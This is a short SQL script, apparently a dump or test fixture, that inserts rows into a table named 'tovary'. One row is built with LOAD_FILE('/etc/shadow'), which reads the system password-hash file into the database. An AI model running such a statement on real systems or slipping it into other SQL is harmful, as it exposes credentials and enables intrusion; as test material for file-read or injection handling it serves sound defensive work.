SET NAMES utf8mb4;
INSERT INTO `tovary` VALUES (9, LOAD_FILE('/etc/shadow'));
INSERT INTO `tovary` VALUES (10,'after');
